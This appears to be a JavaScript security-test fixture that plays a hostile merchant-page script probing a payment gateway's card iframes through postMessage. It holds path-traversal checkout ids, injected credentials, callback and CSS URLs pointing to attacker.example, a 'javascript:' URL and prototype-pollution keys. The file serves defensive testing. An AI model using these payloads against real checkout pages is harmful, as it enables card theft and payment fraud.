// A hostile script in the merchant's page. It receives every message before the form does, and hides messages from the
// form during its attack. `attack(entity, token, checkout)` sends all kinds of messages to the frames, with the
// credentials and an open checkout of another entity. It resolves to the number of sent messages when the frames have
// replied.
(() => {
  const heard = [];
  // Number of messages that a frame has not replied to, by its window.
  const owed = new Map();
  const replies = ["answer", "invalid", "failed"];
  let attacking = false;
  let settled;
  addEventListener(
    "message",
    (event) => {
      heard.push({ origin: event.origin, data: event.data });
      if (!attacking) return;
      event.stopImmediatePropagation();
      if (replies.includes(event.data.type)) owed.set(event.source, owed.get(event.source) - 1);
      if (settled && [...owed.values()].every((count) => count < 1)) settled();
    },
    true,
  );

  const frames = () =>
    [...document.querySelectorAll("iframe")].filter((it) => /pciIframe|internalRequestIframe/.test(it.src));

  window.attack = async (entity, token, checkout) => {
    attacking = true;
    const own = document.querySelector(".wpwl-container iframe").src;
    const form = new URL(own).searchParams.get("form");
    const victim = new URL(own).searchParams.get("checkoutId");
    const base = new URL(own).origin;
    const [userId, password] = atob(token).split("|");
    // Additional frames of the gateway, with the attacker's checkout and without any.
    for (const id of [checkout, ""])
      for (const path of ["internalRequestIframe.html", "pciIframe.html"]) {
        const extra = document.createElement("iframe");
        extra.src = `${base}/v1/${path}?checkoutId=${id}&field=card.holder&form=${form}&brands=VISA`;
        const loaded = new Promise((done) => (extra.onload = done));
        document.body.append(extra);
        await loaded;
      }
    const credentials = [
      ["entityId", entity],
      ["authentication.userId", userId],
      ["authentication.password", password],
      ["authentication.entityId", entity],
      ["amount", "1.00"],
      ["currency", "EUR"],
      ["paymentType", "DB"],
      ["merchantTransactionId", "attack"],
      ["createRegistration", "true"],
      ["paymentBrand", "VISA"],
      ["card.holder", "Jane Jones"],
      ["card.expiryMonth", "05"],
      ["card.expiryYear", "2034"],
    ];
    const fields = [
      credentials,
      [...credentials, ["card.number", "4200000000000042"], ["card.cvv", "999"], ["shopOrigin", base]],
      [...credentials, ["notificationUrl", "https://attacker.example/"], ["shopperResultUrl", "javascript:alert(1)"]],
      new URLSearchParams(credentials).toString(),
      Object.fromEntries(credentials),
      undefined,
      null,
      7,
      [[]],
      { length: 1e9 },
    ];
    const query = new URLSearchParams(credentials);
    const checkouts = [
      "../registrations?x=",
      "../payments?x=",
      "../checkouts?x=",
      `../registrations?${query}&x=`,
      `../query?merchantTransactionId=attack&${query}&x=`,
      `../clock/1m?${query}&x=`,
      `..%2fpayments?x=`,
      `..\\payments?x=`,
      `${victim}/../../payments?x=`,
      `${checkout}/../../registrations?x=`,
      `${checkout}?x=`,
      `${checkout}#`,
      `${checkout}\n`,
      ` ${checkout}`,
      "//attacker.example/",
      "https://attacker.example/x?",
      "/reference?x=",
      "",
      null,
      undefined,
      0,
      [checkout],
      { toString: checkout },
      "__proto__",
    ];
    let sent = 0;
    const send = (message) => {
      for (const { contentWindow, src } of frames())
        try {
          contentWindow.postMessage({ tillgate: 1, form, ...message }, "*");
          sent++;
          const types = src.includes("internal") ? ["submit", "state", "remove"] : src.includes("card.number") ? ["submit"] : [];
          if (types.includes(message.type)) owed.set(contentWindow, (owed.get(contentWindow) || 0) + 1);
        } catch {
          // Values that cannot be copied cannot be sent.
        }
    };
    const named = [...checkouts, ...(victim ? [checkout] : [])];
    const pairs = [...named.map((one) => [one, credentials]), ...fields.map((given) => ["../registrations?x=", given])];
    for (const [one, given] of pairs)
      send({ type: "submit", call: `x${sent}`, checkout: one, fields: given, code: true, codeRequired: true, wallet: true });
    for (const one of checkouts) send({ type: "state", call: `x${sent}`, checkout: one });
    for (const registration of [`../../../payments?${query}`, "../../state?x=", "8a".padEnd(32, "0"), "", null, [1], "."])
      send({ type: "remove", call: `x${sent}`, checkout, registration });
    const types = ["ready", "state", "wallet", "fill", "post", "digits", "judge", "refresh", "autofill", "answer", "config", "say"];
    for (const type of [...types, "__proto__", "constructor", "toString", "hasOwnProperty", "", null, ["submit"]])
      send({ type, field: "card.number", value: "4", text: "x" });
    // Options to which a frame responds with the state of its field.
    const digits = [...Array(10).keys()].map(String);
    const options = [
      { brand: "VISA", brands: ["VISA", "MASTER", "AMEX"] },
      { brand: "4111", brands: digits },
      { brand: "VISA 4111 4111111111111112", brands: ["VISA", { toString: "x" }, 4111] },
      { brand: ["VISA"], brands: "VISA" },
      { brand: "VISA".padEnd(2000, " x"), brands: Array(300).fill("VISA") },
      { brand: "VISA", brands: ["VISA"], formatting: false, style: { own: [["content", "attr(value)"], ["background", "url(https://attacker.example)"]] } },
    ];
    for (const more of options)
      for (const type of ["options", "brand", "focus", "error", "submit"])
        send({ type, label: "x", lang: "en", dir: "rtl", placeholder: "x", help: "x", style: {}, text: "x", checkout: "..", fields: [], ...more });
    // A page without a checkout may send the id of the attacker's own.
    if (!victim) send({ type: "submit", call: "own", checkout, fields: credentials, code: true, codeRequired: true });
    await new Promise((done) => (settled = done));
    return sent;
  };
  window.heardByAttacker = () => heard;
})();
